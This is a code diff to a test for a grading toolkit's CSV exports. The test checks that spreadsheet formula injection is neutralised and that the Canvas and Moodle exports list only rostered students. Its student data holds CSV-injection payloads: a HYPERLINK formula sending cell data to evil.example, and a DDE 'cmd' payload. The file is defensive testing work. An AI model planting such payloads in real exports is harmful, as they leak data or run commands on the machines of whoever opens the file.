@@ -21,7 +21,7 @@ from bpkit.grading.report import write_exports
 from bpkit.grading.store import Store, csv_cell, csv_text
 
 STARTS = ["=", "+", "-", "@", "\t", "\r"]
-CSV_EXPORTS = {"grades", "summary", "history", "table", "nbgrader", "canvas", "moodle"}
+CSV_EXPORTS = {"grades", "summary", "history", "table", "nbgrader", "canvas", "moodle", "unmatched"}
 IDS = [eid for eid, exercise in EXERCISES.items() if exercise.lesson == "01"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"click")'
 STUDENTS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "plain"]
@@ -103,9 +103,15 @@ def test_no_cell_of_any_csv_export_is_a_formula_and_every_value_is_kept(tmp_path
         formulas = [cell for cell in cells if cell[:1] in STARTS]
         assert not formulas, (name, formulas)
         every[name] = set(cells)
-    for name, cells in every.items():  # each student appears in each export, as text
-        missing = [s for s in STUDENTS if csv_cell(s) not in cells]
+    on_roster = {r["id"] for r in ROSTER}
+    for name, cells in every.items():  # each student appears in each export, as text; the LMS ones are
+        # the roster's only (an LMS refuses a whole import for one unknown user), the others are in unmatched
+        expected = {"canvas": on_roster, "moodle": on_roster, "unmatched": set(STUDENTS) - on_roster}.get(name, STUDENTS)
+        missing = [s for s in expected if s in STUDENTS and csv_cell(s) not in cells]
         assert not missing, (name, missing)
+    for name in ("canvas", "moodle"):
+        strangers = [s for s in set(STUDENTS) - on_roster if csv_cell(s) in every[name]]
+        assert not strangers, (name, strangers)
     assert "'-absent" in every["summary"] and "'-absent" in every["canvas"]  # the roster-only student
     assert {"'@Mallory =Evil", "'+mallory@example.com"} <= every["moodle"]
     assert "'\r=CR Name" in every["summary"] and "'\t=x@example.com" in every["nbgrader"]
@@ -113,7 +119,8 @@ def test_no_cell_of_any_csv_export_is_a_formula_and_every_value_is_kept(tmp_path
     assert any(cell.endswith("_01.ipynb") and cell.startswith("'=HYPERLINK") for cell in every["history"])
     canvas = read_cells(csvs["canvas"])
     points = canvas[0].index("bpkit lesson 01 (4 points)")
-    assert sorted(row[points] for row in canvas[1:]) == ["", "0", "0", "1", "1", "2", "2"]  # numbers, unquoted
+    # Points Possible (4), then the roster's students only: 0, missing (blank), 2; numbers unquoted
+    assert sorted(row[points] for row in canvas[1:]) == ["", "0", "2", "4"]
 
 
 def modes(root: Path) -> dict[str, str]:
